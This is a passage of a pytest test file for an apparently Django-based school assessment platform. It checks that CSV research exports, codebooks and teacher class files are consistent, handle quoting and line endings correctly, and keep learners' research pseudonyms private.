    def test_copy_writes_the_same_file_as_the_row_generator(
        self, results, demographics
    ):
        Response.objects.filter(value="2").update(value='line one\nline two, "two"')
        copied, generated = self._both(results, demographics=demographics, bom=True)
        assert copied == generated
        text = copied.decode("utf-8-sig")
        assert text.count("\r\n") == len(list(csv.reader(io.StringIO(text))))
        assert "'=HYPERLINK(" in text and ARABIC in text
        assert "line one\nline two" in text  # inside quotes: not turned into CRLF

    def test_questions_not_asked_are_the_same_rows_in_both(self, results):
        """A handed-in test's questions that its skip logic did not ask have
        their rows, in the questionnaire's place, from COPY as from Python; a
        recorded code that is no longer a question of the test has none."""
        attempt = Attempt.objects.get(learner=results["learners"][2], phase="pre")
        attempt.responses.filter(item__code="A02").delete()
        attempt.scores = {**attempt.scores, "not_applicable": ["A02", "O01", "gone"]}
        attempt.save(update_fields=["scores"])
        copied, generated = self._both(results, demographics=True, bom=False)
        assert copied == generated
        rows = list(csv.reader(io.StringIO(copied.decode())))
        learner = pseudonym(
            key=results["programme"].pseudonym_key,
            learner_id=results["learners"][2].pk,
        )
        pre = [row for row in rows[1:] if row[0] == learner and row[5] == "pre"]
        assert [(row[9], row[-4], row[-3], row[-2]) for row in pre] == [
            ("K01", "A", "0.0", "answered"),
            ("K02", "A", "0.0", "answered"),
            ("K03", "true", "0.0", "answered"),
            ("A01", "2", "0.25", "answered"),
            ("A02", "", "", "not_applicable"),
            ("P01", "2", "0.25", "answered"),
            ("P02", "yes", "0.0", "answered"),
            ("O01", "", "", "not_applicable"),
        ]

    def test_internal_ids_and_the_key_never_reach_the_file(self, results):
        copied, _generated = self._both(results, demographics=False, bom=False)
        rows = list(csv.reader(io.StringIO(copied.decode())))
        learners = {row[0] for row in rows[1:]}
        expected = {
            pseudonym(key=results["programme"].pseudonym_key, learner_id=u.pk)
            for u in results["learners"]
        }
        assert learners == expected
        assert results["programme"].pseudonym_key not in copied.decode()


class TestTeacherFilesUseOtherPseudonyms:
    """A teacher knows the children and sees their scores in the class file:
    with the research pseudonyms in it, the teacher could name every child
    of the class in the programme's research data."""

    def test_no_research_pseudonym_appears_in_the_class_file(self, client, results):
        school_class = results["school_class"]
        client.force_login(school_class.teachers.get())
        response = client.post(reverse("classes:class_csv", args=[school_class.pk]))
        assert response.status_code == 200
        text = response.content.decode("utf-8-sig")
        teacher_names = {row[0] for row in list(csv.reader(io.StringIO(text)))[1:]}
        assert len(teacher_names) == len(results["learners"])
        research = set()
        for dataset in ("responses_long", "prepost_wide"):
            rows = _csv(_run(results, dataset=dataset))
            research |= {row[0] for row in rows[1:]}
        assert len(research) == len(results["learners"])
        assert not teacher_names & research
        for name in research:  # nor anywhere else in the file
            assert name not in text


class TestCrlfRecords:
    def test_record_ends_become_crlf_but_quoted_newlines_stay(self):
        out: list[bytes] = []
        seen: list[int] = []
        records = exports._CrlfRecords(out.append, seen.append)
        for block in (b"a,1\nb,2\n", b'c,"x\n', b'y"\nd,', b"4\ne,5\n"):
            records.write(block)
        text = b"".join(out)
        assert text == b'a,1\r\nb,2\r\nc,"x\ny"\r\nd,4\r\ne,5\r\n'
        assert records.count == 5 and seen == [1, 2, 3, 4, 5]
        assert list(csv.reader(io.StringIO(text.decode()))) == [
            ["a", "1"],
            ["b", "2"],
            ["c", "x\ny"],
            ["d", "4"],
            ["e", "5"],
        ]


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
@pytest.mark.parametrize("own_connection", [True, False])
def test_progress_is_written_for_others_to_read(own_connection):
    """A running job's progress (rows done, heartbeat) reaches the database
    whether it goes through its own connection (while COPY streams) or the
    request's; the progress page and the stall check read it from there."""
    from django.db import connection

    from assessments.services_exports import PROGRESS_EVERY, _Progress

    if own_connection and connection.vendor != "postgresql":
        pytest.skip("a second connection to SQLite's in-memory test database")
    programme = Programme.objects.create(name="P", slug="p")
    user = make_evaluator("progress-evaluator", programme)
    job = ExportJob.objects.create(requested_by=user, programme=programme)
    ExportJob.objects.filter(pk=job.pk).update(
        heartbeat_at=timezone.now() - timedelta(hours=1)
    )
    progress = _Progress(job, own_connection=own_connection)
    try:
        progress(PROGRESS_EVERY - 1)  # not a multiple: nothing written
        job.refresh_from_db()
        assert job.rows_done == 0
        progress(2 * PROGRESS_EVERY)
    finally:
        progress.close()
    job.refresh_from_db()
    assert job.rows_done == 2 * PROGRESS_EVERY
    assert timezone.now() - job.heartbeat_at < timedelta(minutes=1)


@pytest.mark.django_db
def test_two_tests_sharing_item_codes_never_share_a_column(results):
    """Parallel forms, or another course's test, reuse codes such as K01: in
    the matched file each test's question has its own columns and codebook
    row, with its own wording and subscale."""
    import copy

    from tests.factories import MINI_COURSE, build_site

    other_data = copy.deepcopy(MINI_COURSE)
    other_data["slug"] = "second-course"
    other_data["title"] = "A second course"
    other_data["test"]["code"] = "SECOND"
    other_data["test"]["items"][0]["text"] = "Which of these is a strong password?"
    other_data["test"]["items"][0]["subscale"] = "passwords"
    other = build_site(other_data)
    learner = results["school_class"].memberships.first().learner
    results["school_class"].courses.add(other)
    _take(learner, other, "pre", PRE)
    rows = _csv(_run(results, dataset="prepost_wide"))
    header = rows[0]
    assert "MINI_K01_pre" in header and "SECOND_K01_pre" in header
    assert "K01_pre" not in header
    codebook = {
        row[0]: row
        for row in csv.reader(
            io.StringIO(
                _path(
                    _run(results, dataset="prepost_wide").codebook_file_name
                ).read_text(encoding="utf-8-sig")
            )
        )
    }
    assert codebook["SECOND_K01_pre"][6] == "passwords"
    assert codebook["MINI_K01_pre"][6] == "privacy"
    assert "strong password" in codebook["SECOND_K01_pre"][9]


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_running_job_beats_from_its_own_thread(committed_course, monkeypatch):
    """Whatever the export is doing (pyreadstat writing a whole table has no
    row callback), the job's heartbeat moves; it stops with the job."""
    from assessments import services_exports

    school_class = make_class(teacher=make_teacher(), course=committed_course)
    programme = school_class.school.programme
    job = export_job_create(
        user=make_evaluator("evaluator", programme), programme=programme, enqueue=False
    )
    long_ago = timezone.now() - timedelta(hours=1)
    ExportJob.objects.filter(pk=job.pk).update(status="running", heartbeat_at=long_ago)
    monkeypatch.setattr(services_exports, "HEARTBEAT_SECONDS", 0.05)
    with services_exports._Heartbeat(job.pk):
        for _ in range(200):
            job.refresh_from_db()
            if job.heartbeat_at > long_ago:
                break
            time.sleep(0.05)
    assert job.heartbeat_at > long_ago
    ExportJob.objects.filter(pk=job.pk).update(status="done")


def test_the_codebook_states_the_scoring_rule_of_a_scale_as_applied():
    """A scale of its own numbers (``kap_value`` 2, 4, 6, 8, not 1 to the
    number of points): the codebook's rule, (x − min) / (max − min) with
    reverse coding min + max − x, is what ``scoring.score_item`` does."""
    from dataclasses import replace

    from assessments.scoring import ItemSpec, score_item

    scale = exports.ItemInfo(
        key="A05",
        code="A05",
        instrument="T",
        domain="A",
        subscale="",
        item_type="scale",
        reverse_coded=False,
        wording={"en": "I check who can see my posts."},
        options={},
    )
    rows = list(exports.codebook_rows([], [scale]))
    rule = dict(zip(rows[0], rows[1], strict=True))["scoring_rule"]
    assert "Scales: (x - min) / (max - min)" in rule
    assert "a reverse-coded item takes min + max - x in place of x" in rule
    assert "points" not in rule
    spec = ItemSpec(
        code="A05",
        domain="A",
        item_type="scale",
        option_keys=("never", "sometimes", "often", "always"),
        option_values=(2.0, 4.0, 6.0, 8.0),
    )
    low, high, x = 2, 8, 4  # "sometimes"
    assert score_item(spec, "sometimes") == (x - low) / (high - low)
    reversed_x = low + high - x
    assert score_item(replace(spec, reverse_coded=True), "sometimes") == (
        (reversed_x - low) / (high - low)
    )
